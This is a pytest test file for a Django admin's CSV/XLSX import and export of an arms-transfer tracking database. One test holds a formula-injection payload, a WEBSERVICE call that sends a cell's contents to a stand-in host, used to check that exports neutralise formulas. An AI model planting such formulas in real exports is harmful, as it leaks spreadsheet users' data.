"""CSV/XLSX import (a dry-run preview first; one bad row rejects the file) and export, in the admin."""

import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from tests import factories as f
from transfers import models

pytestmark = pytest.mark.django_db

CSV, XLSX = "0", "1"  # the admin's format choices, in the order of ImportExportCurationAdmin.formats

TRANSFER_HEADER = "slug,supplier,recipient,supplier_actor,materiel,quantity,status,via,covert,first_reported\n"
GOOD_TRANSFERS = (
    TRANSFER_HEADER
    + "prk-rus-missiles,PRK,RUS,,artillery-shells,24,delivered,SYR,1,2024-01-04\n"
    + "rus-prk-aircraft,RUS,PRK,white-house,artillery-shells,,anticipated,,0,\n"
)


def upload(client, model: str, content: bytes | str, *, name="transfers.csv", fmt=CSV):
    content = content.encode() if isinstance(content, str) else content
    return client.post(
        reverse(f"admin:transfers_{model}_import"),
        {"import_file": SimpleUploadedFile(name, content), "format": fmt, "resource": "0"},
    )


def confirm(client, model: str, preview):
    form = preview.context["confirm_form"]
    return client.post(reverse(f"admin:transfers_{model}_process_import"), form.initial, follow=True)


def test_the_preview_writes_nothing_and_the_confirmation_imports(editor_client, editor, admin_world):
    preview = upload(editor_client, "transfer", GOOD_TRANSFERS)

    assert preview.status_code == 200
    assert preview.context["confirm_form"] is not None
    result = preview.context["result"]
    assert [row.import_type for row in result.rows] == ["new", "new"]
    assert not models.Transfer.objects.filter(slug__in=["prk-rus-missiles", "rus-prk-aircraft"]).exists()
    assert not models.Transfer.history.filter(slug="prk-rus-missiles").exists()

    response = confirm(editor_client, "transfer", preview)

    assert response.status_code == 200
    missiles = models.Transfer.objects.get(slug="prk-rus-missiles")
    assert (missiles.supplier.iso3, missiles.recipient.iso3) == ("PRK", "RUS")
    assert (missiles.quantity, missiles.covert) == (24, True)
    assert [step.state.iso3 for step in missiles.route.order_by("id")] == ["SYR"]
    aircraft = models.Transfer.objects.get(slug="rus-prk-aircraft")
    assert aircraft.supplier_actor == admin_world["white_house"]
    assert (aircraft.quantity, aircraft.first_reported) == (None, None)
    record = missiles.history.get()
    assert (record.history_user, record.history_change_reason) == (editor, "Imported from transfers.csv")
    assert missiles.route.get(state__iso3="SYR").history.get().history_user == editor


def test_a_confirmed_import_builds_its_transfers_once_at_its_end(editor_client, admin_world, built):
    """Every row of a file is written in one transaction and built into the read model once, at its end
    (as a service's writes are): never a row's refresh holding records and the summary while the next
    row takes its tallies' locks (the write path's lock order, services.records)."""
    preview = upload(editor_client, "transfer", GOOD_TRANSFERS)
    built.clear()  # what the preview built, and rolled back
    assert confirm(editor_client, "transfer", preview).status_code == 200
    imported = sorted(models.Transfer.objects.filter(slug__in=["prk-rus-missiles", "rus-prk-aircraft"])
                      .values_list("pk", flat=True))
    assert len(imported) == 2
    assert built == [imported]
    assert models.TransferRecord.objects.filter(pk__in=imported).count() == 2


@pytest.mark.parametrize(
    ("line", "field", "message"),
    [
        ("bad,XXX,RUS,,artillery-shells,1,delivered,,0,", "supplier", "No State with iso3 'XXX'."),
        ("bad,RUS,RUS,,artillery-shells,1,delivered,,0,", "recipient", "must be different States"),
        ("bad,PRK,RUS,,artillery-shells,-5,delivered,,0,", "quantity", "quantity cannot be negative"),
        ("bad,PRK,RUS,,artillery-shells,1,teleported,,0,", "status", "is not a valid choice"),
        ("bad,PRK,RUS,,no-such-thing,1,delivered,,0,", "materiel", "No Materiel with slug 'no-such-thing'."),
        ("bad,PRK,RUS,,artillery-shells,1,delivered,SYR;ZZZ,0,", "via", "No State with iso3 'ZZZ'."),
        ("bad,PRK,RUS,,artillery-shells,1,delivered,,0,2024-13-45", "first_reported", "Value could not be parsed"),
        ("bad,PRK,RUS,,artillery-shells,1,delivered,SYR;PRK,0,", "via", "PRK is the supplier or the recipient"),
    ],
    ids=["unknown-iso3", "supplier-is-recipient", "negative-quantity", "bad-status", "unknown-materiel",
         "unknown-transit", "bad-date", "transit-is-supplier"],
)
def test_one_bad_row_rejects_the_whole_file_naming_row_and_field(editor_client, admin_world, line, field, message):
    content = GOOD_TRANSFERS + line + "\n"  # the bad row is row 3
    response = upload(editor_client, "transfer", content)

    assert response.status_code == 200
    assert "confirm_form" not in response.context or response.context["confirm_form"] is None
    result = response.context["result"]
    assert [row.number for row in result.invalid_rows] == [3]
    errors = result.invalid_rows[0].field_specific_errors
    assert field in errors, errors
    assert any(message in str(e) for e in errors[field]), errors
    page = response.content.decode()
    assert "Some rows failed to validate" in page
    assert message.split("'")[0] in page
    assert not models.Transfer.objects.filter(slug__in=["prk-rus-missiles", "rus-prk-aircraft", "bad"]).exists()


def test_the_confirm_step_also_rolls_back_if_a_row_fails_after_the_preview(editor_client, admin_world):
    preview = upload(editor_client, "transfer", GOOD_TRANSFERS)
    # Between preview and confirmation someone else deletes the materiel the file names.
    models.Transfer.objects.filter(materiel=admin_world["materiel"]).delete()
    models.Materiel.objects.filter(slug="artillery-shells").delete()

    response = confirm(editor_client, "transfer", preview)

    assert not models.Transfer.objects.filter(slug__in=["prk-rus-missiles", "rus-prk-aircraft"]).exists()
    assert any("Nothing was imported: rows 1, 2 failed" in str(m) for m in response.context["messages"])


def test_an_xlsx_file_imports_like_a_csv(editor_client, admin_world):
    book = openpyxl.Workbook()
    sheet = book.active
    for line in GOOD_TRANSFERS.strip().splitlines():
        sheet.append(line.split(","))
    buffer = io.BytesIO()
    book.save(buffer)
    preview = upload(editor_client, "transfer", buffer.getvalue(), name="transfers.xlsx", fmt=XLSX)
    assert [row.import_type for row in preview.context["result"].rows] == ["new", "new"]
    confirm(editor_client, "transfer", preview)
    assert models.Transfer.objects.get(slug="prk-rus-missiles").route.count() == 1


@pytest.mark.parametrize(
    ("model", "content", "check"),
    [
        ("state", "iso3,name,aliases,subregion\nUKR,Ukraine,Ukraina;Kyiv,Eastern Europe\n",
         lambda: models.State.objects.get(iso3="UKR").aliases == ["Ukraina", "Kyiv"]),
        ("actor", "slug,name,aliases,kind,state,part_of,description,source,quote\n"
                  "kpa,Korean People's Army,KPA,armed_forces,PRK,,,wapo-dprk-shells,left the port in March\n",
         lambda: models.Actor.objects.get(slug="kpa").state.iso3 == "PRK"),
        ("materiel", "slug,name,category,un_register_category,description\nkn-23,KN-23,missile,VII,\n",
         lambda: models.Materiel.objects.get(slug="kn-23").category == "missile"),
        ("source", "slug,title,publisher,authors,published,url,kind,reliability,text,note\n"
                   "un-panel,UN panel report,UN,Panel;Experts,2024-03-01,,un_document,A,The full text.,\n",
         lambda: models.Source.objects.get(slug="un-panel").authors == ["Panel", "Experts"]),
    ],
)
def test_reference_data_imports_by_natural_key(editor_client, admin_world, model, content, check):
    preview = upload(editor_client, model, content)
    assert preview.context["confirm_form"] is not None, preview.context["result"].invalid_rows
    confirm(editor_client, model, preview)
    assert check()


def test_an_actor_quote_not_in_its_source_is_rejected_on_the_quote(editor_client, admin_world):
    content = (
        "slug,name,aliases,kind,state,part_of,description,source,quote\n"
        "kpa,Korean People's Army,,armed_forces,PRK,,,wapo-dprk-shells,words the source never printed\n"
    )
    result = upload(editor_client, "actor", content).context["result"]
    assert [row.number for row in result.invalid_rows] == [1]
    assert "quote" in result.invalid_rows[0].field_specific_errors
    assert not models.Actor.objects.filter(slug="kpa").exists()


def export_form(client, model: str, fmt: str, params=""):
    url = reverse(f"admin:transfers_{model}_export") + params
    form = client.get(url).context["form"]
    data = {"format": fmt, "resource": "0"}
    data.update({name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)})
    return url, data


def export(client, model: str, fmt: str, params=""):
    return client.post(*export_form(client, model, fmt, params))


def test_transfers_export_as_csv_with_natural_keys_and_route(editor_client, admin_world, django_assert_num_queries):
    for _ in range(5):
        transfer = f.TransferFactory()
        transfer.route.create(state=f.StateFactory())
    url, data = export_form(editor_client, "transfer", CSV)
    # 1 session, 1 user, 2 permissions, 2 the changelist's State filters and 2 its year filter's
    # ends (the export honours the list's filters), 1 count, 1 transfers with references joined,
    # 1 their routes, 1 their parties: not one per row.
    with django_assert_num_queries(12):
        response = editor_client.post(url, data)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    lines = response.content.decode().splitlines()
    assert lines[0].startswith("slug,supplier,recipient,supplier_actor,recipient_actor,materiel,quantity")
    row = next(line for line in lines if line.startswith("prk-rus-shells,"))
    assert row.startswith("prk-rus-shells,PRK,RUS,,,artillery-shells,")
    assert ",SYR," in row


def test_transfers_export_as_xlsx_and_round_trip(editor_client, admin_world):
    response = export(editor_client, "transfer", XLSX, "?status__exact=in_transit")
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    rows = list(book.active.values)
    assert rows[0][:3] == ("slug", "supplier", "recipient")
    assert [r[0] for r in rows[1:]] == ["prk-rus-shells"]
    # The exported file imports back unchanged.
    preview = upload(editor_client, "transfer", response.content, name="export.xlsx", fmt=XLSX)
    assert preview.context["confirm_form"] is not None, preview.context["result"].invalid_rows


def test_viewers_may_export_but_not_import(viewer_client, admin_world):
    assert viewer_client.get(reverse("admin:transfers_transfer_import")).status_code == 403
    assert upload(viewer_client, "transfer", GOOD_TRANSFERS).status_code == 403
    assert export(viewer_client, "transfer", CSV).status_code == 200
    assert not models.Transfer.objects.filter(slug="prk-rus-missiles").exists()


def test_an_import_that_changes_a_reviewed_transfer_returns_it_to_draft(editor_client, second_editor, admin_world):
    from transfers.services.review import transfer_mark_reviewed

    transfer = transfer_mark_reviewed(transfer=admin_world["transfer"], user=second_editor)
    assert transfer.is_reviewed
    content = TRANSFER_HEADER + "prk-rus-shells,PRK,RUS,,artillery-shells,5000,delivered,SYR,0,\n"
    confirm(editor_client, "transfer", upload(editor_client, "transfer", content))
    transfer.refresh_from_db()
    assert transfer.quantity == 5000
    assert not transfer.is_reviewed


def test_an_import_that_only_changes_the_route_of_a_reviewed_transfer_returns_it_to_draft(
    editor_client, second_editor, admin_world
):
    from transfers.services.review import transfer_mark_reviewed

    transfer = admin_world["transfer"]
    quantity = transfer.quantity or ""
    content = TRANSFER_HEADER + f"prk-rus-shells,PRK,RUS,,artillery-shells,{quantity},{transfer.status},,0,\n"
    transfer_mark_reviewed(transfer=transfer, user=second_editor)
    confirm(editor_client, "transfer", upload(editor_client, "transfer", content))
    transfer.refresh_from_db()
    # via names the transit States: they go; the named region the route also passes stays.
    assert not transfer.route.filter(state__isnull=False).exists()
    assert transfer.route.filter(place__slug="middle-east").exists()
    assert not transfer.is_reviewed


# --- exports are safe to open in a spreadsheet --------------------------------------------------

HOSTILE = '=WEBSERVICE("http://example.invalid/?leak="&A1)'


def test_exports_neutralise_formulas_in_csv_and_xlsx(viewer_client, admin_world):
    models.Transfer.objects.filter(pk=admin_world["transfer"].pk).update(description=HOSTILE, quantity_note="+1+2")
    csv_text = export(viewer_client, "transfer", CSV).content.decode()
    assert "'=WEBSERVICE(" in csv_text and ",=WEBSERVICE" not in csv_text and '"=WEBSERVICE' not in csv_text
    book = openpyxl.load_workbook(io.BytesIO(export(viewer_client, "transfer", XLSX).content))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no formula cell at all
    assert "'" + HOSTILE in [cell.value for cell in cells]


def test_a_control_character_does_not_break_the_xlsx_export(viewer_client, admin_world):
    models.Transfer.objects.filter(pk=admin_world["transfer"].pk).update(description="tab\x0bbed (test data)")
    response = export(viewer_client, "transfer", XLSX)
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert "tab\ufffdbed (test data)" in [cell.value for row in book.active.iter_rows() for cell in row]


REGISTER_HEADER = "slug,supplier,recipient,recipient_actor,materiel,quantity,quantity_delivered,quantity_low," \
                  "quantity_high,quantity_estimated,status,route,parties\n"


def test_the_admin_import_takes_the_register_columns(editor_client, admin_world):
    f.PlaceFactory(slug="tartus", kind="port")
    body = (REGISTER_HEADER
            + "prk-rus-rockets,PRK,RUS,,artillery-shells,500,200,,,1,delivered,"
              "origin:PRK:sea;transshipment:SYR+tartus:sea,shipper:white-house\n"
            + "unknown-rus-shells,,RUS,,artillery-shells,,,100,999,1,delivered,,\n")
    preview = upload(editor_client, "transfer", body)
    assert preview.context["confirm_form"] is not None, preview.context["result"].invalid_rows
    confirm(editor_client, "transfer", preview)
    rockets = models.Transfer.objects.get(slug="prk-rus-rockets")
    assert (rockets.quantity, rockets.quantity_delivered, rockets.quantity_estimated) == (500, 200, True)
    legs = list(rockets.route.order_by("seq").values_list("seq", "role", "state__iso3", "place__slug", "mode"))
    assert legs == [(1, "origin", "PRK", None, "sea"), (2, "transshipment", "SYR", "tartus", "sea")]
    assert list(rockets.parties.values_list("role", "actor__slug")) == [("shipper", "white-house")]
    unknown = models.Transfer.objects.get(slug="unknown-rus-shells")
    assert (unknown.supplier, unknown.quantity_low, unknown.quantity_high) == (None, 100, 999)


def test_the_admin_import_refuses_a_bad_leg_naming_the_route(editor_client, admin_world):
    body = REGISTER_HEADER + "prk-rus-rockets,PRK,RUS,,artillery-shells,,,,,0,delivered,teleport:SYR:sea,\n"
    preview = upload(editor_client, "transfer", body)
    assert "confirm_form" not in preview.context or preview.context["confirm_form"] is None
    errors = preview.context["result"].invalid_rows[0].field_specific_errors
    assert "route" in errors and "'teleport' is not one of" in str(errors["route"])
